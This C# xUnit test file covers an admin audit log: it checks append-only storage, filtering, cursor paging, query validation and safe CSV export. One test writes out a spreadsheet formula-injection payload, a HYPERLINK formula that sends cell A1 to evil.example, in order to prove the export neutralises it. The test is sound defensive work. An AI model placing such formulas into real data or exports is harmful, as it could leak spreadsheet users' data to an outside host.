using System.Net;
using System.Text.Json;
using Dapper;
using GenSaaS.Web.Features.Admin;
using Microsoft.Data.Sqlite;

namespace GenSaaS.Web.Tests.Features.Admin;

/// <summary>The audit log: append-only in the database, filtered and paged over the API and the page, exported as safe CSV.</summary>
public sealed class AuditLogTests(AdminTestApp app) : IClassFixture<AdminTestApp>
{
    [Fact]
    public async Task AuditLog_RefusesUpdateAndDelete_AndKeepsTheEntry()
    {
        var (_, admin) = await app.AdminKeyAsync();
        var customer = await app.CreateUserAsync($"append-{Guid.NewGuid():N}@example.com");
        (await AdminTestApp.AdjustAsync(admin, customer.Id, new { amount = 5, reason = "outage goodwill" })).StatusCode.ShouldBe(HttpStatusCode.OK);
        var entry = (await app.AuditAsync(customer.Id)).ShouldHaveSingleItem();

        await using var connection = await app.Db.OpenAsync();
        var update = await Should.ThrowAsync<SqliteException>(() => connection.ExecuteAsync(
            "UPDATE audit_log SET reason = 'nothing happened' WHERE id = @Id", entry));
        update.Message.ShouldContain("append-only");
        var delete = await Should.ThrowAsync<SqliteException>(() => connection.ExecuteAsync("DELETE FROM audit_log WHERE id = @Id", entry));
        delete.Message.ShouldContain("append-only");
        (await Should.ThrowAsync<SqliteException>(() => connection.ExecuteAsync("DELETE FROM audit_log"))).Message.ShouldContain("append-only");

        (await app.AuditAsync(customer.Id)).ShouldHaveSingleItem().ShouldBe(entry);
    }

    [Fact]
    public async Task AuditApi_FiltersByActorActionTargetAndDate()
    {
        var (adminA, keyA) = await app.AdminKeyAsync();
        var (adminB, keyB) = await app.AdminKeyAsync();
        var one = await app.CreateUserAsync($"f1-{Guid.NewGuid():N}@example.com");
        var two = await app.CreateUserAsync($"f2-{Guid.NewGuid():N}@example.com");
        (await AdminTestApp.AdjustAsync(keyA, one.Id, new { amount = 1, reason = "a to one" })).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await AdminTestApp.AdjustAsync(keyB, one.Id, new { amount = 2, reason = "b to one" })).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await AdminTestApp.AdjustAsync(keyA, two.Id, new { amount = 3, reason = "a to two" })).StatusCode.ShouldBe(HttpStatusCode.OK);

        var byTarget = await ListAsync(keyA, $"target={one.Id}");
        byTarget.Select(e => e.GetProperty("reason").GetString()).ShouldBe(["b to one", "a to one"]);
        byTarget[0].GetProperty("id").GetString()!.ShouldStartWith("aud_");
        byTarget[0].GetProperty("actor").GetString().ShouldBe(adminB.Id);
        byTarget[0].GetProperty("actorKind").GetString().ShouldBe("api_key");
        byTarget[0].GetProperty("before").GetProperty("prepaid").GetInt64().ShouldBe(1);
        byTarget[0].GetProperty("after").GetProperty("prepaid").GetInt64().ShouldBe(3);

        var byActor = await ListAsync(keyA, $"actor={adminA.Id}&action=credits.adjust");
        byActor.Select(e => e.GetProperty("reason").GetString()).ShouldBe(["a to two", "a to one"]);
        (await ListAsync(keyA, $"actor={adminA.Id}&target={two.Id}")).ShouldHaveSingleItem();

        var today = DateTime.UtcNow.ToString("yyyy-MM-dd");
        var tomorrow = DateTime.UtcNow.AddDays(1).ToString("yyyy-MM-dd");
        (await ListAsync(keyA, $"target={one.Id}&from={today}&to={today}")).Count.ShouldBe(2);
        (await ListAsync(keyA, $"target={one.Id}&from={tomorrow}")).ShouldBeEmpty();
        (await ListAsync(keyA, $"target={one.Id}&to=2000-01-01")).ShouldBeEmpty();

        // Reading through the admin API is itself audited.
        (await app.AuditAsync(action: AuditActions.ApiRead)).ShouldContain(e => e.Actor == adminA.Id && e.AfterJson!.Contains("/api/v1/admin/audit"));
    }

    [Fact]
    public async Task AuditApi_PagesByCursor_WithoutRepeatsOrGaps_WhileEntriesArrive()
    {
        var (admin, key) = await app.AdminKeyAsync();
        var customer = await app.CreateUserAsync($"pages-{Guid.NewGuid():N}@example.com");
        for (var i = 1; i <= 5; i++)
            (await AdminTestApp.AdjustAsync(key, customer.Id, new { amount = i, reason = $"grant {i}" })).StatusCode.ShouldBe(HttpStatusCode.OK);

        var first = await AdminTestApp.JsonAsync(await key.GetAsync($"/api/v1/admin/audit?target={customer.Id}&limit=2"), HttpStatusCode.OK);
        first.GetProperty("has_more").GetBoolean().ShouldBeTrue();
        var seen = first.GetProperty("data").EnumerateArray().Select(e => e.GetProperty("reason").GetString()).ToList();
        var cursor = first.GetProperty("data")[1].GetProperty("id").GetString();

        // New entries arrive between pages: they are newer than the cursor, so the next pages neither repeat nor skip.
        (await AdminTestApp.AdjustAsync(key, customer.Id, new { amount = 6, reason = "grant 6" })).StatusCode.ShouldBe(HttpStatusCode.OK);
        while (cursor is not null)
        {
            var page = await AdminTestApp.JsonAsync(await key.GetAsync($"/api/v1/admin/audit?target={customer.Id}&limit=2&starting_after={cursor}"), HttpStatusCode.OK);
            var data = page.GetProperty("data").EnumerateArray().ToList();
            seen.AddRange(data.Select(e => e.GetProperty("reason").GetString()));
            cursor = page.GetProperty("has_more").GetBoolean() ? data[^1].GetProperty("id").GetString() : null;
        }
        seen.ShouldBe(["grant 5", "grant 4", "grant 3", "grant 2", "grant 1"]);
        (await ListAsync(key, $"target={customer.Id}")).Count.ShouldBe(6);
        _ = admin;
    }

    [Theory]
    [InlineData("page=2", "parameter_unknown")]
    [InlineData("from=yesterday", "validation_failed")]
    [InlineData("to=2026-13-01", "validation_failed")]
    [InlineData("limit=0", "validation_failed")]
    [InlineData("limit=abc", "validation_failed")]
    [InlineData("starting_after=cl_1", "resource_missing")]
    public async Task AuditApi_RefusesBadQueries(string query, string code)
    {
        var (_, key) = await app.AdminKeyAsync();
        var problem = await AdminTestApp.JsonAsync(await key.GetAsync($"/api/v1/admin/audit?{query}"), HttpStatusCode.BadRequest);
        problem.GetProperty("code").GetString().ShouldBe(code);
    }

    [Fact]
    public async Task AuditPage_ListsFilters_AndExportsCsvThatASpreadsheetCannotRun()
    {
        var (admin, browser) = await app.SignedInUserAsync(admin: true);
        var (_, key) = await app.AdminKeyAsync();
        var customer = await app.CreateUserAsync($"csv-{Guid.NewGuid():N}@example.com");
        const string formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")";
        (await AdminTestApp.AdjustAsync(key, customer.Id, new { amount = 4, reason = formula })).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await AdminTestApp.AdjustAsync(key, customer.Id, new { amount = 1, reason = "-1+2, \"quoted\"\nsecond line" })).StatusCode.ShouldBe(HttpStatusCode.OK);

        var page = await browser.GetStringAsync($"/admin/audit?target={customer.Id}");
        page.ShouldContain("data-testid=\"audit-entries\"");
        page.ShouldContain("credits.adjust");
        page.ShouldContain("=HYPERLINK(&quot;https://evil.example/");
        (await browser.GetStringAsync("/admin/audit?from=not-a-date")).ShouldContain("must be a date");

        var response = await browser.GetAsync($"/admin/audit?handler=Csv&target={customer.Id}");
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        response.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        var csv = await response.Content.ReadAsStringAsync();
        var records = ReadCsv(csv);
        records[0].ShouldBe(["id", "at", "actor", "actor_kind", "action", "target", "reason", "before", "after"]);
        records.Count.ShouldBe(3);
        records[1][6].ShouldBe("'-1+2, \"quoted\"\nsecond line");
        records[2][6].ShouldBe("'" + formula);
        records.Skip(1).ShouldAllBe(r => r[5] == customer.Id && r[4] == "credits.adjust");
        // No field of the file starts with a character a spreadsheet reads as a formula.
        records.SelectMany(r => r).ShouldAllBe(f => f.Length == 0 || "=+-@\t\r".IndexOf(f[0]) < 0);

        // The export is audited, with the filter it used.
        (await app.AuditAsync(action: AuditActions.AuditExport)).ShouldContain(e => e.Actor == admin.Id && e.ActorKind == "admin" && e.AfterJson!.Contains(customer.Id));
    }

    private static async Task<List<JsonElement>> ListAsync(HttpClient client, string query)
    {
        var list = await AdminTestApp.JsonAsync(await client.GetAsync($"/api/v1/admin/audit?{query}&limit=100"), HttpStatusCode.OK);
        list.GetProperty("object").GetString().ShouldBe("list");
        return list.GetProperty("data").EnumerateArray().ToList();
    }

    /// <summary>An RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    private static List<string[]> ReadCsv(string text)
    {
        var records = new List<string[]>();
        var fields = new List<string>();
        var field = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { fields.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                fields.Add(field.ToString()); field.Clear(); records.Add([.. fields]); fields.Clear(); i++;
            }
            else field.Append(c);
        }
        if (field.Length > 0 || fields.Count > 0) { fields.Add(field.ToString()); records.Add([.. fields]); }
        return records;
    }
}
